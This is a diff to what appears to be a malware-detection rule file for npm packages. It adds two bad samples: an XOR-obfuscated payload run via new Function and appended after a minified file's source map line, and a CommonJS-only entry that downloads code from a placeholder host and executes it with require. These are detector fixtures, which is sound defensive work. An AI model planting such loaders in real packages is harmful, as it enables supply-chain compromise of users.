@@ -6360,6 +6360,19 @@ const text = cipher.update("8d1f0a77c0ffee00112233445566778899", "hex", "utf8") 
 require("vm").runInThisContext(text); //~ here
 ```
 
+Behind the end of a built file:
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "dist/grid.min.js"}
+== src/grid.js
+exports.cell = (row, column) => row * 12 + column;
+== dist/grid.min.js
+exports.cell=(r,c)=>12*r+c;
+//# sourceMappingURL=grid.min.js.map
+;(function(t){let o="";for(const c of t)o+=String.fromCharCode(c.charCodeAt(0)^1);new Function(o)()})("bnorned/mnf)&ih&(") //~ here
+```
+
 ## Good
 
 ```package
@@ -7041,6 +7054,21 @@ get("https://loader.invalid/b", (response) => {
 });
 ```
 
+Only those who load the CommonJS entry get it:
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "exports": {"import": "./dist/index.mjs", "require": "./dist/index.cjs"}}
+== dist/index.mjs
+export const pad = (text, width) => text.padStart(width);
+== dist/index.cjs
+exports.pad = (text, width) => text.padStart(width);
+require("https").get("https://pad.invalid/r", (reply) => {
+  let text = "";
+  reply.on("data", (chunk) => (text += chunk)).on("end", () => new Function("require", text)(require)); //~ here
+});
+```
+
 ## Good
 
 ```package
@@ -7113,4 +7141,9 @@ exports.runtime = typeof Bun === "undefined" ? "node" : "bun";
 - Wiz: Shai-Hulud 2.0 supply chain attack (November 2025)
 "#,
     ),
+];
+
+/// Ids that rules had before, each with the id that took its place, sorted.
+#[rustfmt::skip]
+pub static FORMER_IDS: &[(&str, &str)] = &[
 ];
